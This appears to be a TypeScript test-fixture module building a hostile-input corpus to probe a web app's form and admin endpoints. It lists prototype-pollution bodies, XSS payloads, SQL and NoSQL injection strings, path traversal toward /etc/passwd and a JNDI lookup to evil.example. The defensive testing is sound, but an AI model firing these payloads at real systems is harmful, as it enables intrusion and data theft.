/** The pieces the hostile corpus is built from: request shapes, payloads and body makers. */

export type Credential = 'none' | 'valid' | 'forged' | 'expired' | 'swapped' | 'username-only';

export interface HostileRequest {
  name: string;
  method: string;
  path: string;
  headers?: Record<string, string>;
  /** A string, raw bytes, or a function that makes a large body only when the request is sent. */
  body?: string | Uint8Array | (() => string | Uint8Array | ReadableStream<Uint8Array>);
  credential?: Credential;
  /** Whether this request must change nothing stored (the runner also checks that 200s to a form store exactly one). */
  mustNotStore?: boolean;
}

export const JSON_TYPE = { 'Content-Type': 'application/json' };

export const FORMS = {
  about: {
    path: '/aboutform',
    valid: { name: 'Hostile Test', address: 'Plot 1, Waluj MIDC', message: 'Checking the server.', phoneno: '9876543210', consent: true },
    textFields: ['name', 'address', 'message'],
  },
  contact: {
    path: '/addcontactdata',
    valid: {
      name: 'Hostile Test',
      number: '9876543210',
      enquiry: 'General Enquiry',
      email: 'probe@example.in',
      message: 'Checking the server.',
      consent: true,
    },
    textFields: ['name', 'email', 'message'],
  },
  privacy: {
    path: '/privacyrequest',
    valid: { name: 'Hostile Test', phone: '9876543210', email: 'probe@example.in', kind: 'access', message: 'Checking the server.' },
    textFields: ['name', 'email', 'message'],
  },
} as const;

export const WRONG_TYPES: [string, unknown][] = [
  ['an array', ['Asha']],
  ['an object', { first: 'Asha' }],
  ['a number', 42],
  ['a boolean', true],
  ['null', null],
];

export const MALFORMED = [
  '{',
  '{"name": }',
  "{'name': 'single quotes'}",
  '{"name": "a",}',
  'nul',
  '[1, 2',
  '{"name": "unterminated',
  '\u0000',
  '{"a":1}{"b":2}',
  'undefined',
];

export const PROTOTYPE_BODIES = (valid: Record<string, unknown>): [string, string][] => [
  ['__proto__ at the top', `{"__proto__": {"polluted": "yes", "isAdmin": true}, ${JSON.stringify(valid).slice(1)}`],
  ['constructor.prototype at the top', `{"constructor": {"prototype": {"polluted": "yes"}}, ${JSON.stringify(valid).slice(1)}`],
  ['prototype at the top', `{"prototype": {"polluted": "yes"}, ${JSON.stringify(valid).slice(1)}`],
  ['__proto__ inside a field', JSON.stringify({ ...valid, name: JSON.parse('{"__proto__": {"polluted": "yes"}}') as unknown })],
  ['constructor inside a field', JSON.stringify({ ...valid, message: { constructor: { prototype: { polluted: 'yes' } } } })],
  ['__proto__ inside an array', JSON.stringify({ ...valid, name: [JSON.parse('{"__proto__": {"polluted": "yes"}}')] })],
  ['__proto__ as the whole body', '{"__proto__": {"polluted": "yes"}}'],
];

/** Text that must be stored and shown exactly as typed, never interpreted. */
export const MARKUP_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '<iframe src="https://evil.example"></iframe>',
  '{{constructor.constructor("alert(1)")()}}',
  '<a href="javascript:alert(1)">click</a>',
  '</textarea><script>alert(1)</script>',
];

export const INJECTION_PAYLOADS = [
  "' OR '1'='1",
  "'; DROP TABLE enquiries; --",
  '" OR ""="',
  '1; SELECT * FROM users',
  '$where: function() { return true }',
  '{"$gt": ""}',
  '../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
];

export const NOSQL_OPERATORS: unknown[] = [{ $gt: '' }, { $ne: null }, { $regex: '.*' }, { $where: 'sleep(1000)' }];

/** Unusual names: each must be stored as sent or refused with 400 (broken UTF-8 and NUL are refused). */
export const STRANGE_NAMES: [string, string][] = [
  ['a NUL byte in the name', 'Asha\u0000Patil'],
  ['a right-to-left override', 'Asha \u202Egnp.exe'],
  ['emoji', 'Asha 🙏🏽🚀'],
  ['zero-width characters', 'A\u200Bs\u200Dh\uFEFFa'],
  ['Devanagari', 'आशा पाटील'],
];

/** A valid body whose name holds the bytes C3 28, which are not valid UTF-8. */
export function invalidUtf8Body(valid: Record<string, unknown>): Uint8Array {
  const [before, after] = JSON.stringify({ ...valid, name: 'A@@sha' }).split('@@') as [string, string];
  const encoder = new TextEncoder();
  return new Uint8Array([...encoder.encode(before), 0xc3, 0x28, ...encoder.encode(after)]);
}

export const ADMIN_GETS = [
  '/fetchaboutdata',
  '/fetchcontactusdata',
  '/admin/session',
  '/admin/api/privacy-requests',
  '/admin/api/person?phone=9876543210',
  '/admin/api/person.json?email=probe%40example.in',
];
export const ADMIN_DELETES: [string, string][] = [
  ['/deleteproduct', 'aid'],
  ['/deletecontact', 'cid'],
];

export const HOSTILE_IDS: [string, unknown][] = [
  ['a number', 42],
  ['a boolean', true],
  ['null', null],
  ['an array', ['id']],
  ['an object', { id: 'x' }],
  ['an empty string', ''],
  ['path traversal', '../../etc/passwd'],
  ['encoded traversal', '..%2f..%2fsecurity.json'],
  ['a 10 KB id', 'x'.repeat(10_000)],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['SQL injection', "' OR 1=1 --"],
  ['NoSQL operator', { $ne: null }],
  ['emoji', '🙂'],
];

export function repeatChunks(size: number): ReadableStream<Uint8Array> {
  const chunk = new TextEncoder().encode('x'.repeat(1024));
  let sent = 0;
  return new ReadableStream({
    pull(controller) {
      if (sent >= size) return controller.close();
      controller.enqueue(chunk);
      sent += chunk.length;
    },
  });
}
